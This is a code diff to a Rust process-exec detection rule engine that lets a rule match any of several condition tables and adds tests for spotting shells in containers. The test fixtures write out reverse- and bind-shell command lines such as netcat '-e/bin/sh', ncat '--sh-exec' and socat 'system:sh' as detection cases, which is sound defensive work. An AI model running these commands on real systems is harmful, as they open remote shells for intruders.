@@ -79,9 +79,40 @@ struct RawRule {
     severity: Severity,
     description: String,
     #[serde(rename = "match")]
-    when: Spanned<RawCond>,
+    when: Spanned<When>,
     #[serde(default)]
     except: Vec<Spanned<RawCond>>,
+}
+
+/// `match`: one table of conditions, or a list of tables of which any one may hold (a shell
+/// known by its file or by its name).
+enum When {
+    One(Box<RawCond>),
+    Any(Vec<Spanned<RawCond>>),
+}
+
+impl<'de> Deserialize<'de> for When {
+    fn deserialize<D: serde::Deserializer<'de>>(d: D) -> Result<Self, D::Error> {
+        struct V;
+        impl<'de> serde::de::Visitor<'de> for V {
+            type Value = When;
+            fn expecting(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+                f.write_str("a table of conditions, or a list of such tables")
+            }
+            fn visit_map<A: serde::de::MapAccess<'de>>(self, map: A) -> Result<When, A::Error> {
+                RawCond::deserialize(serde::de::value::MapAccessDeserializer::new(map))
+                    .map(|c| When::One(Box::new(c)))
+            }
+            fn visit_seq<A: serde::de::SeqAccess<'de>>(self, mut seq: A) -> Result<When, A::Error> {
+                let mut v = Vec::new();
+                while let Some(c) = seq.next_element()? {
+                    v.push(c);
+                }
+                Ok(When::Any(v))
+            }
+        }
+        d.deserialize_any(V)
+    }
 }
 
 #[derive(Deserialize, Default)]
@@ -146,7 +177,8 @@ pub struct Rule {
     pub name: String,
     pub severity: Severity,
     pub description: String,
-    when: Cond,
+    /// Any of these (`match` as a list), or the one.
+    when: Vec<Cond>,
     except: Vec<Cond>,
 }
 
@@ -456,8 +488,22 @@ impl Rules {
                     &format!("a second rule named {n:?}"),
                 ));
             }
-            let when =
-                cond(r.when.get_ref(), r.when.span().start, budget).map_err(|(o, m)| at(o, &m))?;
+            let when = match r.when.get_ref() {
+                When::One(c) => vec![cond(c, r.when.span().start, budget)],
+                When::Any(l) if l.is_empty() => {
+                    return Err(at(
+                        r.when.span().start,
+                        "match = []: no condition tables, which no exec matches",
+                    ));
+                }
+                When::Any(l) => l
+                    .iter()
+                    .map(|c| cond(c.get_ref(), c.span().start, budget))
+                    .collect(),
+            }
+            .into_iter()
+            .collect::<Result<Vec<_>, _>>()
+            .map_err(|(o, m)| at(o, &m))?;
             let except = r
                 .except
                 .iter()
@@ -505,7 +551,7 @@ impl Rules {
     pub fn parts(&self) -> u16 {
         self.rules
             .iter()
-            .flat_map(|r| std::iter::once(&r.when).chain(&r.except))
+            .flat_map(|r| r.when.iter().chain(&r.except))
             .fold(0, |p, c| p | c.parts())
     }
 
@@ -513,7 +559,7 @@ impl Rules {
     pub fn need_container(&self) -> bool {
         self.rules
             .iter()
-            .flat_map(|r| std::iter::once(&r.when).chain(&r.except))
+            .flat_map(|r| r.when.iter().chain(&r.except))
             .any(|c| c.container.is_some())
     }
 
@@ -522,7 +568,9 @@ impl Rules {
         self.rules
             .iter()
             .enumerate()
-            .filter(|(_, r)| r.when.holds(x) && !r.except.iter().any(|c| c.holds(x)))
+            .filter(|(_, r)| {
+                r.when.iter().any(|c| c.holds(x)) && !r.except.iter().any(|c| c.holds(x))
+            })
             .map(|(i, _)| i)
             .collect()
     }
@@ -708,6 +756,35 @@ mod tests {
             names(&r, &shell),
             ["terminal-shell-in-container", "container-drift"]
         );
+        // A shell is known by its file too: a link of another name, or busybox by its argv.
+        for (comm, exe, argv, hit) in [
+            (
+                &b"notashell"[..],
+                &b"/usr/bin/bash"[..],
+                &b"notashell -i"[..],
+                true,
+            ),
+            (b"x", b"/bin/busybox", b"sh -i", true),
+            (b"x", b"/bin/busybox", b"-sh", true),
+            (b"busybox", b"/bin/busybox", b"/bin/busybox sh", true),
+            (b"sh", b"/bin/busybox", b"sh", true),
+            (b"ls", b"/bin/busybox", b"ls -l", false),
+            (b"bashful", b"/usr/bin/bashful", b"bashful", false),
+        ] {
+            let x = Exec {
+                comm,
+                exe: Some(exe.to_vec()),
+                argv: argv.to_vec(),
+                upper: false,
+                ..shell
+            };
+            assert_eq!(
+                names(&r, &x) == ["terminal-shell-in-container"],
+                hit,
+                "{}",
+                String::from_utf8_lossy(argv)
+            );
+        }
         // The same on the host: neither container rule.
         assert!(
             names(
@@ -724,7 +801,21 @@ mod tests {
             (b"nc.traditional", b"nc.traditional -lvp 4444 -c sh", true),
             (b"ncat", b"ncat --sh-exec sh host 1", true),
             (b"socat", b"socat TCP:h:1 EXEC:/bin/sh", true),
+            // Values attached, flags before, long options with = or abbreviated.
+            (b"nc", b"nc -e/bin/sh 10.0.0.1 4444", true),
+            (b"ncat", b"ncat -cbash -i 10.0.0.1 4444", true),
+            (b"nc", b"nc -ve/bin/sh h 1", true),
+            (b"nc", b"nc -nlvp4444 -e/bin/sh", true),
+            (b"ncat", b"ncat --exec=/bin/sh h 1", true),
+            (b"ncat", b"ncat --ex /bin/sh h 1", true),
+            (b"ncat", b"ncat --sh-exec=bash h 1", true),
+            (b"ncat", b"ncat --lua-exec=x.lua h 1", true),
+            (b"socat", b"socat tcp:h:1 system:sh", true),
             (b"nc", b"nc -zv localhost 22", false),
+            (b"nc", b"nc -lvnp 4444", false),
+            (b"nc", b"nc -Xconnect -x proxy:3128 host 22", false),
+            (b"nc", b"nc -C -w 3 host 25", false),
+            (b"ncat", b"ncat --ssl --send-only host 1", false),
             (b"curl", b"curl -e x", false),
         ] {
             let x = Exec {
@@ -751,17 +842,30 @@ mod tests {
             ..exec()
         };
         assert_eq!(names(&r, &suid), ["setuid-gain"]);
-        // The except list keeps sudo quiet.
-        assert!(
-            names(
-                &r,
-                &Exec {
-                    comm: b"sudo",
-                    ..suid
-                }
-            )
-            .is_empty()
-        );
+        // The except list keeps sudo quiet, known by its file; a link named sudo to another
+        // set-user-ID program is not sudo.
+        for (exe, quiet) in [
+            (&b"/usr/bin/sudo"[..], true),
+            (b"/bin/su", true),
+            (b"/usr/sbin/unix_chkpwd", true),
+            (b"/usr/lib/dbus-1.0/dbus-daemon-launch-helper", true),
+            (b"/tmp/sudo", false),
+            (b"/usr/bin/pkexec", false),
+        ] {
+            let x = Exec {
+                comm: b"sudo",
+                exe: Some(exe.to_vec()),
+                argv: suid.argv.clone(),
+                ids: suid.ids,
+                ..exec()
+            };
+            assert_eq!(
+                names(&r, &x).is_empty(),
+                quiet,
+                "{}",
+                String::from_utf8_lossy(exe)
+            );
+        }
     }
 
     #[test]
@@ -851,6 +955,19 @@ except = [{ argv = '://127\.0\.0\.1' }, { ancestor = ["apt*"] }]
                 "[[rule]]\nname = \"a\"\nseverity = \"low\"\ndescription = \"d\"\nmatch = { tty = true }\n\
                  except = [{ flags = [] }]\n",
                 "f.toml:6: flags = []: an empty list, which no exec matches (leave flags out to match any)",
+            ),
+            (
+                "[[rule]]\nname = \"a\"\nseverity = \"low\"\ndescription = \"d\"\nmatch = []\n",
+                "f.toml:5: match = []: no condition tables, which no exec matches",
+            ),
+            (
+                "[[rule]]\nname = \"a\"\nseverity = \"low\"\ndescription = \"d\"\n\
+                 match = [{ tty = true },\n  { ttty = true }]\n",
+                "f.toml:6: unknown field `ttty`, expected one of `container`, `exe`, `comm`, `argv`, `parent`, `ancestor`, `tty`, `flags`, `setuid`, `uid`, `euid`, `loginuid`",
+            ),
+            (
+                "[[rule]]\nname = \"a\"\nseverity = \"low\"\ndescription = \"d\"\nmatch = 1\n",
+                "f.toml:5: invalid type: integer `1`, expected a table of conditions, or a list of such tables",
             ),
             ("[[rule]\n", "f.toml:1: unclosed array table, expected `]`"),
             ("", "f.toml: no [[rule]] tables"),
